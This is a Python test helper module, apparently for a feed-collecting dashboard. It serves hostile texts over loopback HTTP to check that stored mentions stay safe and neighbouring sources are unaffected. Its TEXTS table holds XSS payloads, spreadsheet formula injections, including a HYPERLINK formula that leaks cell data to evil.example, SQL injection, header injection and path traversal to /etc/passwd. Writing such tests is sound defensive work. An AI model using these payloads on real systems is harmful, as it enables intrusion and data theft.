"""Hostile texts, and a workspace that is fed with them over real HTTP and real files.

Each case has a good neighbour, in the same document where that can be read at all and in
another source always: neither may suffer.
"""

from __future__ import annotations

import json
import re
import time
from collections.abc import Iterable, Iterator, Mapping
from contextlib import contextmanager
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from functools import cached_property
from pathlib import Path
from typing import NamedTuple

import httpx2

from collectors.connections import Resolve, lookup
from collectors.contract import Services
from collectors.transport import Limits, Transport
from dashboard import settings
from dashboard.wiring import Workspace
from storage import listing, polls, verify
from storage.database import Database
from storage.errors import CollectError
from storage.listing import MentionRow
from storage.models import Json, MentionFilter, Refusal, Source
from tests.command_line import Ran, earshot
from tests.fake_reddit import SECRETS
from tests.http_server import Answer, LoopbackServer, Route, Seen, serving

NOW = datetime(2026, 11, 21, 12, tzinfo=UTC)
GOOD = "A good neighbour wrote this, and it must stay"
CPU_SECONDS = 20.0
"""What one case may cost; what is quadratic costs minutes."""

TEXTS: dict[str, str] = {
    "script": '<script>window.hacked = 1; alert("x")</script> and no more',
    "image that fails": '<img src="x" onerror="window.hacked = 1; alert(2)"> and no more',
    "picture in vectors": '<svg onload="alert(3)"><animate onbegin=alert(4)></svg> and no more',
    "frame": '<iframe src="javascript:alert(5)"></iframe> and no more',
    "closing everything": '"></textarea></style></title></script><script>alert(6)</script> more',
    "markdown links": "[click](javascript:alert(7)) [here](https://evil.example/) more",
    "markdown image": "![pixel](https://evil.example/pixel.png) ![](data:text/html,x) more",
    "markdown page": "# head\n\n| a | b |\n|---|---|\n\n- [x] **bold** `code`\n\n---\n> more",
    "streamlit marks": ":red[x] :material/delete: :streamlit: :small[y] <https://evil.example>",
    "formulas of TeX": r"$\href{javascript:alert(8)}{x}$ from $5 to $6 $$\frac{1}{0}$$",
    "template": "{{7*7}} ${7*7} <%= 7 %> %s %(x)s {0.__class__} #{7} more",
    "formula of a spreadsheet": "=cmd|' /C calc'!A0",
    "formula with a link": '=HYPERLINK("https://evil.example/?"&A1,"press")',
    "formula with a plus": "+1+cmd|' /C calc'!A0",
    "formula with a minus": "-2+3+cmd|' /C calc'!A0",
    "formula with an at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "sql": "x'); DROP TABLE mentions; DELETE FROM versions; -- \"'\\",
    "search words": '" OR 1=1 NEAR(a b) title:x * ^ AND NOT (',
    "nul": "before\x00after",
    "lone surrogates": "before\ud800after \udfff end",
    "right to left": "\u202egnp.exe\u202c \u2066\u2067x and never closed \u202e",
    "zero width inside": "a\u200bb\u200cc\u200dd\u2060e\ufefff",
    "emoji only": "\U0001f600\U0001f3f3\ufe0f\u200d\U0001f308\U0001f468\u200d\U0001f469",
    "marks upon marks": "e" + "\u0301\u0489" * 3_000 + " more",
    "terminal": "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x08\x7f\x9b2J more",
    "noncharacters": "a\ufffe\uffff\U0001fffe\U0010ffffz",
    "header": "x\r\nSet-Cookie: a=b\r\n\r\n<html>",
    "markup pieces": "]]> <![CDATA[ &amp; &lt;b&gt; <!-- --> &#x110000; & < > more",
    "path": "../../../../etc/passwd\\..\\x and C:\\con",
    "one long word": "a" * 90_000,
    "many words": "not very bad " * 7_000,
    "exclamations": "!?" * 40_000,
    "at signs": "@a" * 40_000,
    "half links": "http://www." * 8_000,
    "half references": "&#x" * 30_000,
    "half tags": "<a " * 30_000,
    "brackets": "[" * 40_000 + "(" * 40_000,
    "smileys": ":-( " * 20_000,
    "digits": "1," * 40_000,
    "lines": "\n" * 40_000 + "end" + "\r" * 10_000 + "x",
}
"""Each is stored by every route, beside its neighbours."""


class Polled(NamedTuple):
    """What one poll's row says afterwards."""

    new: int
    refused: int
    error: str
    refusals: tuple[Refusal, ...]

    @property
    def said(self) -> str:
        """Everything that was recorded of what went wrong."""
        return "\n".join([self.error, *(refusal.reason for refusal in self.refusals)])


class Tireless(Workspace):
    """A workspace whose transport never sleeps; a case may set how it connects."""

    limits = Limits()
    resolve: Resolve = staticmethod(lookup)
    inner: httpx2.BaseTransport | None = None

    @cached_property
    def services(self) -> Services:
        """What every collector gets, on loopback."""
        transport = Transport(
            allow_private=self.settings.allow_private,
            limits=self.limits,
            sleep=lambda _: None,
            resolve=self.resolve,
            inner=self.inner,
        )
        return Services(
            secrets=SECRETS,
            allow_private=self.settings.allow_private,
            now=self.now,
            transport=transport,
        )


class World:
    """A workspace, a server for its feeds, and a feed of good neighbours."""

    def __init__(self, folder: Path, server: LoopbackServer, *, private: bool = True) -> None:
        self.folder = folder
        self.path = folder / "earshot.db"
        self.server = server
        declared = replace(settings.load(folder / "none.toml"), allow_private=private)
        self.workspace = Tireless(Database(self.path), declared, lambda: NOW)
        self._count = 0
        self._neighbours: list[dict[str, Json]] = []

    def feed(self, answer: Route | Answer | bytes | str, **options: Json) -> Source:
        """Add a feed with this answer; returns its source."""
        self._count += 1
        path = f"/feed/{self._count}"
        self.server.route(path, _route(answer))
        return self.source("feeds", url=self.server.url + path, **options)

    def source(self, kind: str, **options: Json) -> Source:
        """Add a source of its own for a case."""
        self._count += 1
        made = Source(f"{kind}-{self._count}", kind, options=options)
        self.workspace.save_source(made)
        return made

    def poll(self, source: Source) -> Polled:
        """Poll it and score what came; whatever is wrong must be recorded, in bounded time."""
        started = time.process_time()
        raised = ""
        try:
            self.workspace.poll(source.id, "test")
        except CollectError as error:
            raised = str(error)
        self.workspace.understand()
        assert time.process_time() - started < CPU_SECONDS
        row = (
            self.workspace.db.reader()
            .execute(
                "SELECT p.id, p.new, p.refused, p.error, p.ended_at FROM polls p JOIN sources s"
                " ON s.id = p.source_id AND s.key = ? ORDER BY p.id DESC LIMIT 1",
                (source.id,),
            )
            .fetchone()
        )
        assert row[4] is not None, "the poll has no end"
        assert (row[3] or "") == raised
        assert not raised or one_line(raised), raised
        refusals = polls.refusals(self.workspace.db.reader(), row[0])
        return Polled(row[1], row[2], row[3] or "", tuple(refusals))

    def stored(self, source: Source) -> list[MentionRow]:
        """What is stored of a source."""
        conn = self.workspace.db.reader()
        rows = list(listing.every(conn, MentionFilter(sources=(source.id,))))
        for row in rows[:50]:
            detail = listing.detail(conn, row.id)
            notes = (word for pair in detail.extra.items() for word in pair)
            shown = "".join((detail.native_id, row.author, row.url, row.product, row.lang, *notes))
            assert _is_text(shown + row.title + row.text), "no page could show this"
        return rows

    def imported(self, path: Path, *options: str) -> Ran:
        """Import a file under its own name as source."""
        started = time.process_time()
        ran = self.run("import", path, "--json", "--source", path.name, *options)
        assert time.process_time() - started < CPU_SECONDS
        return ran

    def run(self, *words: object) -> Ran:
        """Run a command on this workspace."""
        return earshot(*words, "--db", self.path, "--config", self.folder / "none.toml")

    def neighbour_delivers(self) -> None:
        """Another source still brings what is new there."""
        self._neighbours.append(entry(f"n{len(self._neighbours)}", title=GOOD))
        path = "/neighbour"
        self.server.route(path, _route(json_feed(*self._neighbours)))
        if len(self._neighbours) == 1:
            url = self.server.url + path
            self.workspace.save_source(Source("neighbour", "feeds", options={"url": url}))
        polled = self.poll(self.workspace.source("neighbour"))
        assert (polled.new, polled.error) == (1, "")

    def agrees(self) -> None:
        """Every derived fact is what the facts say, and nothing waits."""
        # A command that opened the file declared its topics; the worker reads them again.
        self.workspace.understand()
        verdict = verify.verify(self.path, self.workspace.db.key("audit"))
        assert verdict.findings == ()
        waiting = self.workspace.db.reader().execute(
            "SELECT count(*) FROM mentions WHERE pending > 0"
        )
        assert waiting.fetchone() == (0,)


@contextmanager
def world(folder: Path, *, private: bool = True) -> Iterator[World]:
    """Run a world for the length of a with-block."""
    with serving() as server:
        made = World(folder, server, private=private)
        try:
            yield made
        finally:
            made.workspace.services.transport.close()  # type: ignore[union-attr]
            made.workspace.close()


def one_line(text: str) -> bool:
    """Whether a message is fit to be shown as one line."""
    return bool(text.strip()) and "\n" not in text and len(text) < 1_100 and _is_text(text)


def fails(ran: Ran, says: str = "", code: int = 2) -> None:
    """A command must have ended with this code and one line that says why."""
    assert (ran.code, ran.out) == (code, b"")
    *usage, last = ran.err.strip().splitlines()
    assert not usage or usage[0].startswith("Usage: "), ran.err
    assert last.startswith(("earshot: ", "Error: "))
    assert one_line(last)
    assert re.search(says, last), last


def mended(text: str) -> str:
    """What may be stored of a text: all of it, save what no database and no eye can hold."""
    return "".join(each for each in text if each.isprintable() and not each.isspace())


def is_kept(given: str, stored: str) -> bool:
    """Whether what can be held of a text is there, in its order."""
    wanted = mended(given.replace("\x00", "").replace("\ufffd", ""))
    return wanted == mended(stored.replace("\ufffd", ""))


def entry(own: str, **more: Json) -> dict[str, Json]:
    """An item of a JSON feed."""
    when = NOW - timedelta(hours=1)
    return {"id": own, "date_published": when.isoformat(), "title": GOOD, **more}


def json_feed(*items: Json) -> bytes:
    """A JSON feed; a lone surrogate travels as its escape."""
    return json.dumps({"version": "https://jsonfeed.org/version/1.1", "items": items}).encode()


def rss(*items: str, head: str = "") -> str:
    """An RSS feed of items given as XML, between two good neighbours."""
    inner = "".join(f"<item>{each}</item>" for each in (good("first"), *items, good("last")))
    return f'{head}<rss version="2.0"><channel><title>t</title>{inner}</channel></rss>'


def good(own: str) -> str:
    """The inside of a good neighbour's item."""
    return f"<guid>{own}</guid><title>{GOOD}</title>"


def json_lines(path: Path, *rows: Mapping[str, Json]) -> Path:
    """Write JSON Lines; a lone surrogate is written as its escape."""
    path.write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="ascii")
    return path


def goods(rows: Iterable[MentionRow]) -> int:
    """How many good neighbours are among what is stored."""
    return sum(GOOD in (row.title, row.text) for row in rows)


def _route(answer: Route | Answer | bytes | str) -> Route:
    if callable(answer):
        return answer
    if isinstance(answer, Answer):
        fixed = answer
    else:
        raw = answer.encode() if isinstance(answer, str) else answer
        kind = "application/json" if raw[:1] in b"{[" else "application/xml"
        fixed = Answer(raw, headers={"content-type": kind})

    def give(seen: Seen) -> Answer:
        return fixed

    return give


def _is_text(text: str) -> bool:
    try:
        text.encode()
    except UnicodeEncodeError:
        return False
    return "\x00" not in text
